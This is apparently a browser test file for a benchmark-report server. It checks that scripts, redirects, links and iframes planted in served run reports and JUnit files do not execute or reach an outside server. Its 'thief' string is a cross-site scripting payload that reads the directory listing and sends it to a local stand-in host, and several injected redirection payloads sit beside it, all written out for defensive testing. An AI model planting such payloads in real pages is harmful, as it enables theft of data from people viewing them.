/// <reference lib="dom" />

import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import { fixtureLog } from '../../reports/fixture/fixture-log.ts';
import { renderHtml } from '../../reports/html/render-html.ts';
import { reportedRun } from '../../reports/reported-run.ts';
import { logged, results, server } from './served-runs-fixture.ts';

const OWN = renderHtml(reportedRun(fixtureLog()), 'en');

let browser: Browser;
beforeAll(async () => {
	browser = await chromium.launch({
		executablePath: process.env.GEMMARK_CHROMIUM ?? '/usr/bin/chromium',
		args: ['--no-sandbox', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-sync'],
	});
});
afterAll(() => browser.close());
beforeEach(() => logged('run', '2026-11-22T09:00:00.000Z'));

const thief = (port: number): string =>
	`fetch('../').then((list) => list.text()).then((text) => fetch('http://127.0.0.1:${port}/?' + encodeURIComponent(location.href + text.length), { mode: 'no-cors' }));
	document.title = 'ran';`;

it.each<[string, file: string, page: (script: string) => string]>([
	['page of their own', 'report.html', (script) => `<!doctype html><title>theirs</title><script>${script}</script>`],
	[
		'report of ours without its policy',
		'report.html',
		(script) => OWN.replace(/<meta http-equiv[^>]*>/u, '').replace('</body>', `<script>${script}</script></body>`),
	],
	[
		'JUnit file',
		'junit.xml',
		(script) => `<r><script xmlns="http://www.w3.org/1999/xhtml"><![CDATA[${script}]]></script></r>`,
	],
])('the script that somebody put into a %s of a run does not run', async (_, file, made) => {
	const elsewhere = await startElsewhere();
	const page = await browser.newPage();
	try {
		writeFileSync(join(results, 'run', file), made(thief(elsewhere.port)));
		await page.goto(server.url);
		await page.goto(`${server.url}run/${file}`);
		await page.waitForTimeout(500);
		expect(await page.title()).not.toBe('ran');
		expect(elsewhere.asked).toEqual([]);
	} finally {
		await page.close();
		elsewhere.close();
	}
});

it.each<[string, insert: (address: string) => string]>([
	['a redirection', (address) => `<meta http-equiv="refresh" content="0;url=${address}">`],
	['a redirection in upper case', (address) => `<META/http-equiv=refresh content=0;${address}>`],
	['a referrer of its own', () => '<meta name="referrer" content="unsafe-url">'],
	['a link', (address) => `<a id=away href="${address}">x</a>`],
	[
		'a link that becomes one',
		(address) => `<svg><a id=away href="#"><set attributeName=href to="${address}" /><text y=9>x</text></a></svg>`,
	],
	[
		'a frame with either',
		(address) => `<iframe id=away srcdoc="&lt;meta http-equiv=refresh content=0;${address}&gt;"></iframe>`,
	],
])('a report of ours with %s leads nowhere: it is made of its log', async (_, insert) => {
	const elsewhere = await startElsewhere();
	const page = await browser.newPage();
	try {
		const address = `http://127.0.0.1:${elsewhere.port}/`;
		writeFileSync(join(results, 'run', 'report.html'), OWN.replace('<main>', `${insert(address)}<main id="theirs">`));
		await page.goto(`${server.url}run/report.html`);
		await page.locator('#find-text').waitFor();
		await page.waitForTimeout(200);
		expect(await page.locator('#away, #theirs').count()).toBe(0);
		expect(elsewhere.asked).toEqual([]);
	} finally {
		await page.close();
		elsewhere.close();
	}
});

it.each(['as it was written', 'made of its log'])(
	'a report of ours works under the policy, %s: links, search, conversations and the way back',
	async (how) => {
		if (how === 'as it was written') {
			writeFileSync(join(results, 'run', 'report.html'), OWN.replace('<b>', '<b id="mark">'));
		}
		const page = await browser.newPage();
		const wrong: string[] = [];
		page.on('console', (message) => message.type() === 'error' && wrong.push(message.text()));
		page.on('pageerror', (error) => wrong.push(error.message));
		try {
			await page.goto(server.url);
			await page.locator('a[href="run/report.html"]').first().click();
			await page.locator('#find-text').waitFor();
			expect(await page.locator('#mark').count()).toBe(how === 'as it was written' ? 1 : 0);
			expect(await page.evaluate(() => origin)).toBe('null');
			await page.locator('#find-text').fill('명상');
			await page.waitForFunction(() => location.hash.startsWith('#samples?'));
			await page.locator('#found summary').first().click();
			await page.locator('#found .permalink').first().click();
			await page.waitForFunction(() => location.hash.startsWith('#sample-'));
			expect(await page.locator('#found .step').count()).toBeGreaterThan(0);
			await page.getByRole('link', { name: 'All runs' }).click();
			await page.locator('tr[data-row=run]').waitFor();
			expect(wrong).toEqual([]);
		} finally {
			await page.close();
		}
	},
);

/** A server that no page of a run may ask anything of. */
async function startElsewhere(): Promise<{
	readonly port: number;
	readonly asked: readonly string[];
	close(): void;
}> {
	const asked: string[] = [];
	const server = createServer((request, response) => {
		asked.push(request.url ?? '');
		response.end();
	});
	await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
	return { port: (server.address() as AddressInfo).port, asked, close: () => void server.close() };
}
